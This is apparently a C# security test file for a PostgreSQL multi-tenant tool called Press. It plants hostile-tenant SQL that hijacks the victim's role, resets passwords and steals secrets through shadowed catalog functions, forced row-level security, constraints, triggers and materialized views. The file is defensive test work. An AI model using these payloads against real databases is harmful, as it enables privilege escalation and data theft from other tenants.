using Npgsql;

namespace Press.EndToEnd.Tests.Security;

/// <summary>Which of a hostile tenant's tricks one test case plants (each needs different operations to fire).</summary>
public enum PlantGroup
{
    /// <summary>Shadows of every function Press calls, an event trigger attempt, default-privilege tricks.</summary>
    Catalog,
    /// <summary>A FORCE'd row-level security policy: runs whenever anyone counts or dumps the table as its owner.</summary>
    RowSecurity,
    /// <summary>CHECK constraint, generated column, domain check, expression index and trigger: run when rows are written
    /// or an index is built, i.e. during a restore.</summary>
    WriteTime,
    /// <summary>A materialized view: refreshed by every restore.</summary>
    MaterializedView,
}

/// <summary>
/// What a hostile tenant H plants through its own login. Every trick ends in <c>attack(what)</c>, which drops back to
/// its session's identity (<c>set_config('role', 'none', false)</c>), tries to make H a member of the victim's role and
/// more, tries to read the victim's secret, and records what it managed and as whom in its accomplice site R's schema
/// (a table for committed work, sequences for work a rollback would undo). R never gets restored, so the record
/// survives every operation on H.
/// </summary>
public sealed record HostilePlants(string PressRole, string Hostile, string Victim, string VictimSchema, string Recorder)
{
    private static string Q(string identifier) => "\"" + identifier.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    /// <summary>R's recorder, writable by everyone (R's own choice), so any identity the attack runs as can record.</summary>
    public static string RecorderSql(string recorder) => $"""
        CREATE TABLE {Q(recorder)}.ran (id bigserial PRIMARY KEY, what text, entry_user text, session_user_name text,
                                        gained text, secret text, at timestamptz DEFAULT pg_catalog.clock_timestamp());
        CREATE SEQUENCE {Q(recorder)}.ran_total;
        CREATE SEQUENCE {Q(recorder)}.ran_in_press_session;
        CREATE SEQUENCE {Q(recorder)}.escalated;
        CREATE SEQUENCE {Q(recorder)}.leaked;
        GRANT USAGE ON SCHEMA {Q(recorder)} TO PUBLIC;
        GRANT INSERT, SELECT ON {Q(recorder)}.ran TO PUBLIC;
        GRANT USAGE, SELECT, UPDATE ON ALL SEQUENCES IN SCHEMA {Q(recorder)} TO PUBLIC;
        """;

    /// <summary>The payload every trick calls. Each attempt is its own block, so one refusal does not stop the next.</summary>
    public string AttackSql
    {
        get
        {
            var h = Q(Hostile);
            var r = Q(Recorder);
            // A GRANT without the right to grant only warns, so each attempt checks what it really got.
            string Try(string gain, string sql, string got) => $"""
                  BEGIN
                    PERFORM pg_catalog.set_config('role', 'none', false);
                    {sql}
                    IF {got} THEN gained := gained || ' {gain}'; END IF;
                  EXCEPTION WHEN OTHERS THEN NULL;
                  END;
                """;
            var me = $"'{Hostile}'";
            return $$"""
                CREATE FUNCTION {{h}}.attack(what text) RETURNS boolean LANGUAGE plpgsql VOLATILE AS $fn$
                DECLARE
                  entry_user text := current_user;
                  sess text := session_user;
                  gained text := '';
                  stolen text;
                BEGIN
                  BEGIN PERFORM pg_catalog.nextval('{{r}}.ran_total'); EXCEPTION WHEN OTHERS THEN NULL; END;
                  IF sess = '{{PressRole}}' THEN
                    BEGIN PERFORM pg_catalog.nextval('{{r}}.ran_in_press_session'); EXCEPTION WHEN OTHERS THEN NULL; END;
                  END IF;
                {{Try("member-of-victim", $"EXECUTE 'GRANT {Q(Victim)} TO {h}';", $"pg_catalog.pg_has_role({me}, '{Victim}', 'MEMBER')")}}
                {{Try("createrole", $"EXECUTE 'ALTER ROLE {h} CREATEROLE';", $"(SELECT rolcreaterole FROM pg_catalog.pg_roles WHERE rolname = {me})")}}
                {{Try("connlimit", $"EXECUTE 'ALTER ROLE {h} CONNECTION LIMIT -1';", $"(SELECT rolconnlimit = -1 FROM pg_catalog.pg_roles WHERE rolname = {me})")}}
                {{Try("create-on-database", $"EXECUTE 'GRANT CREATE, TEMPORARY ON DATABASE ' || pg_catalog.quote_ident(pg_catalog.current_database()) || ' TO {h}';",
                    $"pg_catalog.has_database_privilege({me}, pg_catalog.current_database(), 'CREATE')")}}
                {{Try("usage-on-victim-schema", $"EXECUTE 'SET ROLE {Q(Victim)}'; EXECUTE 'GRANT USAGE ON SCHEMA {Q(VictimSchema)} TO {h}';",
                    $"pg_catalog.has_schema_privilege({me}, '{VictimSchema}', 'USAGE')")}}
                {{Try("victim-password", $"EXECUTE 'ALTER ROLE {Q(Victim)} PASSWORD ''taken-over''';", "true")}}
                  BEGIN
                    PERFORM pg_catalog.set_config('role', 'none', false);
                    EXECUTE 'SET ROLE {{Q(Victim)}}';
                    EXECUTE 'SELECT secret FROM {{Q(VictimSchema)}}.secrets LIMIT 1' INTO stolen;
                  EXCEPTION WHEN OTHERS THEN NULL;
                  END;
                  BEGIN PERFORM pg_catalog.set_config('role', entry_user, false); EXCEPTION WHEN OTHERS THEN NULL; END;
                  BEGIN
                    INSERT INTO {{r}}.ran (what, entry_user, session_user_name, gained, secret) VALUES (what, entry_user, sess, gained, stolen);
                  EXCEPTION WHEN OTHERS THEN NULL;
                  END;
                  IF gained <> '' THEN
                    BEGIN PERFORM pg_catalog.nextval('{{r}}.escalated'); EXCEPTION WHEN OTHERS THEN NULL; END;
                  END IF;
                  IF stolen IS NOT NULL THEN
                    BEGIN PERFORM pg_catalog.nextval('{{r}}.leaked'); EXCEPTION WHEN OTHERS THEN NULL; END;
                  END IF;
                  RETURN true;
                END $fn$;
                -- Generated columns and index expressions need IMMUTABLE: a wrapper that lies about it.
                CREATE FUNCTION {{h}}.imm(what text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $fn$
                BEGIN RETURN {{h}}.attack(what); END $fn$;
                """;
        }
    }

    public string SqlFor(PlantGroup group)
    {
        var h = Q(Hostile);
        return group switch
        {
            PlantGroup.Catalog => $$"""
                -- Shadows of what Press calls, with signatures that beat pg_catalog's on an exact match where PostgreSQL's
                -- rules let them (pg_terminate_backend(integer, integer) beats (integer, bigint)), same-signature ones too.
                CREATE FUNCTION {{h}}.pg_terminate_backend(integer, integer) RETURNS boolean LANGUAGE plpgsql AS $fn$
                BEGIN PERFORM {{h}}.attack('pg_terminate_backend(int,int)'); RETURN false; END $fn$;
                CREATE FUNCTION {{h}}.pg_terminate_backend(integer) RETURNS boolean LANGUAGE plpgsql AS $fn$
                BEGIN PERFORM {{h}}.attack('pg_terminate_backend(int)'); RETURN false; END $fn$;
                CREATE FUNCTION {{h}}.pg_advisory_xact_lock(integer) RETURNS void LANGUAGE plpgsql AS $fn$
                BEGIN PERFORM {{h}}.attack('pg_advisory_xact_lock(int)'); END $fn$;
                CREATE FUNCTION {{h}}.pg_advisory_lock(integer) RETURNS void LANGUAGE plpgsql AS $fn$
                BEGIN PERFORM {{h}}.attack('pg_advisory_lock(int)'); END $fn$;
                CREATE FUNCTION {{h}}.pg_export_snapshot() RETURNS text LANGUAGE plpgsql AS $fn$
                BEGIN PERFORM {{h}}.attack('pg_export_snapshot'); RETURN pg_catalog.pg_export_snapshot(); END $fn$;
                CREATE FUNCTION {{h}}.pg_backend_pid() RETURNS integer LANGUAGE plpgsql AS $fn$
                BEGIN PERFORM {{h}}.attack('pg_backend_pid'); RETURN pg_catalog.pg_backend_pid(); END $fn$;
                CREATE FUNCTION {{h}}.hashtext(text) RETURNS integer LANGUAGE plpgsql AS $fn$
                BEGIN PERFORM {{h}}.attack('hashtext'); RETURN 0; END $fn$;
                CREATE FUNCTION {{h}}.current_schema() RETURNS name LANGUAGE plpgsql AS $fn$
                BEGIN PERFORM {{h}}.attack('current_schema'); RETURN 'public'; END $fn$;
                CREATE FUNCTION {{h}}.count_step(bigint) RETURNS bigint LANGUAGE plpgsql AS $fn$
                BEGIN PERFORM {{h}}.attack('count(*)'); RETURN $1 + 1; END $fn$;
                CREATE AGGREGATE {{h}}.count(*) (SFUNC = {{h}}.count_step, STYPE = bigint, INITCOND = '0');
                CREATE FUNCTION {{h}}.name_eq_text(name, text) RETURNS boolean LANGUAGE plpgsql AS $fn$
                BEGIN PERFORM {{h}}.attack('operator ='); RETURN $1::text = $2; END $fn$;
                CREATE OPERATOR {{h}}.= (LEFTARG = name, RIGHTARG = text, FUNCTION = {{h}}.name_eq_text);
                -- Default privileges: whatever H creates from now on is everyone's (its own to give away).
                ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC;
                ALTER DEFAULT PRIVILEGES GRANT USAGE ON SCHEMAS TO PUBLIC;
                ALTER DEFAULT PRIVILEGES GRANT ALL ON SEQUENCES TO {{Q(Victim)}};
                CREATE TABLE {{h}}.plain (id int PRIMARY KEY, note text);
                INSERT INTO {{h}}.plain SELECT i, 'row ' || i FROM generate_series(1, 20) i;
                """,
            PlantGroup.RowSecurity => $"""
                CREATE TABLE {h}.guarded (id int PRIMARY KEY, note text);
                INSERT INTO {h}.guarded SELECT i, 'row ' || i FROM generate_series(1, 20) i;
                CREATE POLICY spy ON {h}.guarded USING ({h}.attack('row-level security'));
                ALTER TABLE {h}.guarded ENABLE ROW LEVEL SECURITY;
                ALTER TABLE {h}.guarded FORCE ROW LEVEL SECURITY;
                """,
            PlantGroup.WriteTime => $$"""
                CREATE DOMAIN {{h}}.watched AS integer CHECK ({{h}}.imm('domain check'));
                CREATE FUNCTION {{h}}.on_write() RETURNS trigger LANGUAGE plpgsql AS $fn$
                BEGIN PERFORM {{h}}.attack('trigger'); RETURN NEW; END $fn$;
                CREATE TABLE {{h}}.written (
                    id int PRIMARY KEY CHECK ({{h}}.attack('check constraint')),
                    d {{h}}.watched,
                    g boolean GENERATED ALWAYS AS ({{h}}.imm('generated column')) STORED);
                CREATE INDEX written_expr ON {{h}}.written (({{h}}.imm('expression index')));
                CREATE TRIGGER on_write BEFORE INSERT OR UPDATE ON {{h}}.written FOR EACH ROW EXECUTE FUNCTION {{h}}.on_write();
                INSERT INTO {{h}}.written (id, d) SELECT i, i FROM generate_series(1, 5) i;
                """,
            PlantGroup.MaterializedView => $"""
                CREATE MATERIALIZED VIEW {h}.spy AS SELECT {h}.attack('materialized view') AS ran;
                """,
            _ => throw new ArgumentOutOfRangeException(nameof(group)),
        };
    }

    /// <summary>Tricks that PostgreSQL itself must refuse a site role: each is run and must fail.</summary>
    public IEnumerable<(string What, string Sql)> Refused => [
        ("event trigger", $"CREATE EVENT TRIGGER spy ON ddl_command_start EXECUTE FUNCTION {Q(Hostile)}.on_ddl()"),
        ("default privileges for Press's role", $"ALTER DEFAULT PRIVILEGES FOR ROLE {Q(PressRole)} GRANT ALL ON TABLES TO {Q(Hostile)}"),
        ("default privileges for the victim's role", $"ALTER DEFAULT PRIVILEGES FOR ROLE {Q(Victim)} GRANT ALL ON TABLES TO {Q(Hostile)}"),
        ("a grant of the victim's role", $"GRANT {Q(Victim)} TO {Q(Hostile)}"),
    ];

    public string EventTriggerFunctionSql => $$"""
        CREATE FUNCTION {{Q(Hostile)}}.on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $fn$
        BEGIN PERFORM {{Q(Hostile)}}.attack('event trigger'); END $fn$;
        """;

    public static async Task ExecAsync(NpgsqlConnection conn, string sql)
    {
        await using var cmd = new NpgsqlCommand(sql, conn);
        await cmd.ExecuteNonQueryAsync();
    }
}
